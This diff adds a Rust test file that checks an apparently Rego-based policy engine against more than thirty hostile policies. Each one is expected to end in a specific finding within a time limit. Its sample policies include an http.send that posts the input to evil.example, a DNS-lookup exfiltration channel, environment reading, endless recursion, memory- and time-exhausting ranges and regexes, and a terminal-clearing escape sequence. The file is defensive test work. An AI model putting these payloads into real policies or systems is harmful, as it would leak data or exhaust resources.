@@ -1,0 +1,168 @@
+//! Hostile policies: each named after what it copies, and each ends in a finding, soon, and never in silence.
+
+use std::time::{Duration, Instant};
+
+use crate::checked;
+
+/// The team that the policies are asked about.
+const WEB: &str = "\
+apiVersion: charter/v1
+kind: Team
+metadata: {name: web}
+spec: {members: [\"user:ana\"]}
+";
+
+/// What is called what, and what comes of it; the body of a rule `deny`, where the text is no module of its own.
+const HOSTILE: &[(&str, &str, &str)] = &[
+    // Reaching out.
+    (
+        "exfiltration",
+        "http.send({\"method\": \"post\", \"url\": \"https://evil.example/\", \"body\": input})",
+        "policy-builtin",
+    ),
+    (
+        "a lookup of names as a channel",
+        "net.lookup_ip_addr(sprintf(\"%s.evil.example\", [input.metadata.name]))",
+        "policy-builtin",
+    ),
+    ("reading the environment", "opa.runtime().env.HOME", "policy-builtin"),
+    ("a rule that fires on a date", "time.now_ns() > 1893456000000000000", "policy-builtin"),
+    ("a coin that decides", "rand.intn(\"a\", 2) == 1", "policy-builtin"),
+    ("a random id", "uuid.rfc4122(\"a\") != \"\"", "policy-builtin"),
+    ("words on the operator's terminal", "print(\"\\u001b[2J\")", "policy-builtin"),
+    ("a builtin that is not there", "crypto.sha256(input.kind) == \"\"", "policy-builtin"),
+    ("a builtin by an alias", "f := http.send", "policy-invalid"),
+    (
+        "a builtin in a helper that nothing calls",
+        "package a\ndeny contains \"a\" if false\nhelper if http.send({})",
+        "policy-builtin",
+    ),
+    ("a builtin in a comprehension in an index", "input[[x | x := time.now_ns()][0]]", "policy-builtin"),
+    // Never ending.
+    (
+        "a rule that asks itself",
+        "package a\ndeny contains x if { x := loop }\nloop := x if { x := loop }",
+        "policy-invalid",
+    ),
+    (
+        "functions that call one another",
+        "package a\ndeny contains \"a\" if f(1)\nf(x) if g(x)\ng(x) if f(x)",
+        "policy-invalid",
+    ),
+    (
+        "a product of ranges",
+        "input.kind == \"Team\"\nsome a in numbers.range(1, 9999)\nsome b in numbers.range(1, 9999)\na * b < 0",
+        "policy-timeout",
+    ),
+    (
+        "a comprehension of comprehensions",
+        "input.kind == \"Team\"\nn := numbers.range(1, 1000)\ncount({[a, b, c] | some a in n; some b in n; some c in n}) < 0",
+        "policy-timeout",
+    ),
+    (
+        "every pair",
+        "input.kind == \"Team\"\nn := numbers.range(1, 5000)\nevery a in n { every b in n { a + b > 0 } }\nfalse",
+        "policy-timeout",
+    ),
+    ("a chain of rules without an end", CHAIN, "policy-invalid"),
+    // Filling memory.
+    ("a range to the end of numbers", "count(numbers.range(0, 9223372036854775807)) > 0", "policy-builtin"),
+    ("a range that a manifest names", "count(numbers.range(0, input.spec.size)) > 0", "policy-builtin"),
+    ("a step of nothing", "count(numbers.range_step(0, input.spec.size, 0)) > 0", "policy-builtin"),
+    ("a shift to the moon", "bits.lsh(1, 4294967295) > 0", "policy-builtin"),
+    ("all addresses there are", "count(net.cidr_expand(\"::/0\")) > 0", "policy-builtin"),
+    ("words that double", DOUBLING, "policy-timeout"),
+    (
+        "a regular expression of repetitions",
+        "regex.match(\"(((((a{1,99}){1,99}){1,99}){1,99}){1,99}){1,99}\", input.kind)",
+        "policy-timeout",
+    ),
+    // Odd answers.
+    (
+        "a flood of findings",
+        "package a\ndeny contains sprintf(\"%d\", [n]) if some n in numbers.range(1, 20000)",
+        "policy-denied",
+    ),
+    (
+        "a huge message",
+        "package a\ndeny contains concat(\",\", [\"xxxxxxxxxxxxxxxx\" | some n in numbers.range(1, 20000)]) if input.kind == \"Team\"",
+        "policy-denied",
+    ),
+    ("an answer that is no text", "package a\ndeny contains {{1}} if input.kind == \"Team\"", "policy-error"),
+    (
+        "two answers to one question",
+        "package a\ndeny contains f(1) if input.kind == \"Team\"\nf(x) := \"a\" if x > 0\nf(x) := \"b\" if x < 2",
+        "policy-error",
+    ),
+    ("a rule that only is true", "package a\ndeny if input.kind == \"Team\"", "policy-invalid"),
+    ("a name of what is not there", "data.exceptions.web", "policy-invalid"),
+    ("the organisation written over", "package charter\ndeny contains \"a\"", "policy-invalid"),
+    ("the input written over", "input.kind with input as {\"kind\": \"Role\"}", "policy-invalid"),
+    // Texts that are no modules.
+    ("a tower of brackets", TOWER, "policy-invalid"),
+    ("an endless line", LINE, "policy-invalid"),
+    ("nothing at all", "package", "policy-invalid"),
+    ("rules of yesterday", "package a\ndeny[msg] { msg := \"a\" }", "policy-v0"),
+    ("a number of a million digits", "input.size > 1e999999999", "policy-invalid"),
+];
+
+const DOUBLING: &str = "DOUBLING";
+const CHAIN: &str = "CHAIN";
+const TOWER: &str = "TOWER";
+const LINE: &str = "LINE";
+
+fn module(text: &str) -> String {
+    let body = match text {
+        DOUBLING => {
+            let lines = (1..40).map(|n| format!("x{n} := concat(\"\", [x{0}, x{0}])\n", n - 1));
+            format!("x0 := input.kind\n{}x39 == \"\"", lines.collect::<String>())
+        }
+        CHAIN => {
+            let rules = (0..5_000).map(|n| format!("r{n} if r{}\n", n + 1)).collect::<String>();
+            return format!("package a\ndeny contains \"a\" if r0\n{rules}r5000 if input.kind == \"Team\"\n");
+        }
+        TOWER => format!("x := {}1{}", "[".repeat(50_000), "]".repeat(50_000)),
+        LINE => format!("x := \"{}\"", "x".repeat(100_000)),
+        _ if text.starts_with("package") => return text.to_owned(),
+        _ => text.to_owned(),
+    };
+    format!("package hostile\n\ndeny contains \"it fired\" if {{\n{body}\n}}\n")
+}
+
+/// Checks a policy beside a team, and says what was found and how long it took.
+fn found(text: &str) -> (Vec<String>, Duration) {
+    let began = Instant::now();
+    let found = checked(&[("web.yaml", WEB.as_bytes()), ("policies/hostile.rego", module(text).as_bytes())]);
+    let codes = found.report.findings.iter().map(|finding| finding.code.as_str().to_owned()).collect();
+    (codes, began.elapsed())
+}
+
+#[test]
+fn hostile_policies_end_in_findings() {
+    let mut wrong = Vec::new();
+    for (name, text, code) in HOSTILE {
+        let (codes, taken) = found(text);
+        // Far more than the limits allow on a busy machine.
+        if !codes.iter().any(|found| found == code) || taken > Duration::from_secs(120) {
+            wrong.push(format!("{name}: {codes:?} after {taken:?}, not {code}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+    assert!(HOSTILE.len() >= 30);
+}
+
+#[test]
+fn what_policies_say_is_bounded() {
+    for text in ["a flood of findings", "a huge message"] {
+        let (_, module, _) = HOSTILE.iter().find(|(name, ..)| *name == text).unwrap();
+        let files = [("web.yaml", WEB.as_bytes()), ("policies/hostile.rego", module.as_bytes())];
+        let report = checked(&files).report;
+        assert!(report.findings.len() <= 60, "{text}: {}", report.findings.len());
+        assert!(report.findings.iter().all(|finding| finding.message.len() < 5_000), "{text}");
+    }
+}
+
+#[test]
+fn a_policy_that_is_whole_fires() {
+    assert_eq!(found("input.kind == \"Team\"").0, ["policy-denied"]);
+}
